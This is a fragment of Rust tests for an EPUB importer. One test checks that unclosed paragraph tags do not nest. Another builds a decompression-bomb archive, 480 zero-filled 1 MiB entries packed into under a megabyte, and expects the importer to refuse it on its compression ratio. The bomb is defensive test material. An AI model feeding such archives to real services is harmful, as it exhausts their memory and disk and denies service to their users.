fn unclosed_paragraphs_do_not_nest() {
    let body = "<p>x".repeat(300);
    let parsed = import(&book_with(
        format!("<html><body>{body}</body></html>").as_bytes(),
        &[],
    ));
    assert_eq!(parsed.chapters[0].passages.len(), 300);
    assert!(parsed.chapters[0].passages.iter().all(|p| p.text == "x"));
}

#[test]
fn many_entries_each_under_the_ratio_check_are_refused_as_a_whole() {
    // 480 entries of 1 MiB (each at the per-entry check's floor) from a file of a few hundred KB.
    let zeros = vec![0u8; MIB];
    let names: Vec<String> = (0..480).map(|i| format!("OEBPS/pad{i}.bin")).collect();
    let extra: Vec<(&str, &[u8])> = names.iter().map(|n| (n.as_str(), &zeros[..])).collect();
    let bomb = book_with(&xhtml("<p>x</p>").into_bytes(), &extra);
    assert!(bomb.len() < 1024 * 1024, "{} bytes", bomb.len());
    let e = refusal(&bomb, &Limits::default());
    assert!(
        matches!(e, EpubError::ArchiveCompressionRatio { .. }),
        "{e}"
    );
    assert_names(&e, &["as a whole", "--max-compression-ratio", "100"]);
}
